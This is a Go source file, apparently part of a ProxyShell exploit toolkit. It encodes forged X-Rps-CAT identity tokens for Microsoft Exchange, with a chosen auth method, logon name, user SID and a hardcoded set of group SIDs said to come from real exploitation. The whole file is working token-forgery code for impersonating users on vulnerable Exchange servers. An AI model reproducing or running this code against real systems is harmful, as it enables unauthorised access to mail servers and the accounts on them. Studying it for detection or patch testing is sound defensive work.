package forge

import (
	"encoding/base64"
	"encoding/binary"
)

// Token is the serialised identity that ProxyShell passes in X-Rps-CAT: whom
// the intruder claims to be.
type Token struct {
	// Auth is the claimed method: forged tokens say Basic or Kerberos.
	Auth   string
	Logon  string
	SID    string
	Groups []string
}

// forgedGroups are the groups of tokens seen in real exploitation.
var forgedGroups = []string{"S-1-1-0", "S-1-5-2", "S-1-5-11", "S-1-5-15"}

// groupEnabled is the attribute of each group: mandatory, default, enabled.
const groupEnabled = 7

// String encodes the token as it stands in a query, without URL escapes: a
// sequence of one-letter tags, lengths in one byte, counts in four, little
// endian.
func (t Token) String() string {
	b := []byte{'V', 1, 0}
	field := func(tag byte, v string) {
		b = append(b, tag, byte(len(v)))
		b = append(b, v...)
	}
	field('T', "Windows")
	b = append(b, 'C', 0)
	field('A', t.Auth)
	field('L', t.Logon)
	field('U', t.SID)
	b = append(b, 'G')
	b = binary.LittleEndian.AppendUint32(b, uint32(len(t.Groups)))
	for _, g := range t.Groups {
		b = binary.LittleEndian.AppendUint32(b, groupEnabled)
		b = append(b, byte(len(g)))
		b = append(b, g...)
	}
	b = append(b, 'E', 0, 0, 0, 0)
	return base64.StdEncoding.EncodeToString(b)
}
